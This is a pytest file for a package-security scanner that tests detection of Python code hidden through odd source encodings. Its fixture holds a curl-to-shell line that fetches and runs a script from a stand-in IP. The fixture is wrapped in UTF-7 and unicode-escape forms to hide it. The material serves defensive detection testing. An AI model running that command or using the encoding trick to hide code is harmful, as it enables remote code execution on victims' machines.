"""Python is read in the encoding it declares, and one that hides what it says is told."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.formats.file_kind import FileKind
from pratique.scan.detectors import odd_encoding
from pratique.scan.findings import ExecutionPoint
from pratique.scan.reading.contract import Ability
from pratique.scan.reading.deeds import deeds_of
from pratique.scan.reading.source_encoding import Writing, declared, decoded, writing_of
from pratique.scan.seen import Artefact, SeenFile

CODE = "import os\nos.system('curl -s http://192.0.2.7/p.sh | sh')\n"
UTF_7 = b"# -*- coding: utf-7 -*-\n+" + base64.b64encode(CODE.encode("utf-16-be")).rstrip(b"=") + b"-\n"
RAW = (
    b"#!/usr/bin/python\n# coding=raw_unicode_escape\n# "
    + "".join(f"\\u{ord(one):04x}" for one in "\n" + CODE).encode()
)


def module(content: bytes) -> SeenFile:
    return SeenFile("a/__init__.py", FileKind.PYTHON, content, len(content), "", ExecutionPoint.START)


@pytest.mark.parametrize("content", [UTF_7, RAW], ids=["utf-7", "escapes"])
def test_code_in_an_encoding_that_hides_it_is_read_and_told(content):
    file = module(content)

    assert Ability.RUNS_DOWNLOADED in deeds_of(file).abilities
    assert [one.severity.value for one in odd_encoding.look(file, Artefact("pypi", "a", "1"))] == ["high"]


@pytest.mark.parametrize(
    ("content", "name", "writing"),
    [
        (b"x = 1\n", "", Writing.PLAIN),
        (b"\xef\xbb\xbf# coding: utf-8\nx = '\xc3\xa9'\n", "utf-8", Writing.PLAIN),
        (b"\n# vim: set fileencoding=latin-1 :\nx = '\xe9'\n", "latin-1", Writing.PLAIN),
        (b"# coding: gbk\nx = '\xc4\xe3'\n", "gbk", Writing.PLAIN),
        (b"x = 1\n# coding: utf-7\n", "", Writing.PLAIN),
        (b"\n\n# coding: utf-7\n", "", Writing.PLAIN),
        (b"x = '\xe9'\ny = 1\n", "", Writing.BROKEN),
        (b"# coding: utf-8\nx = '\xe9'\ny = 1\n", "utf-8", Writing.BROKEN),
        (b"# coding: future_fstrings\n", "future_fstrings", Writing.UNKNOWN),
        (b"# coding: rot13\n", "rot13", Writing.UNKNOWN),
        (b"# coding: cp037\n", "cp037", Writing.DISGUISED),
        (b"# coding: punycode\n", "punycode", Writing.DISGUISED),
        (b"# coding: utf-16\n", "utf-16", Writing.DISGUISED),
        (b"# coding: hz\n", "hz", Writing.DISGUISED),
    ],
    ids=range(14),
)
def test_the_declared_encoding_is_that_of_the_first_two_lines(content, name, writing):
    assert declared(content) == name
    assert writing_of(content) is writing


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(["", "utf-8", "utf-7", "raw_unicode_escape", "unicode_escape", "gbk", "no-such", "idna", "hex"]),
    st.binary(max_size=200),
)
def test_any_bytes_are_decoded_somehow(name, content):
    whole = f"# coding: {name}\n".encode() + content if name else content

    assert isinstance(decoded(whole), str)
    assert writing_of(whole) in Writing
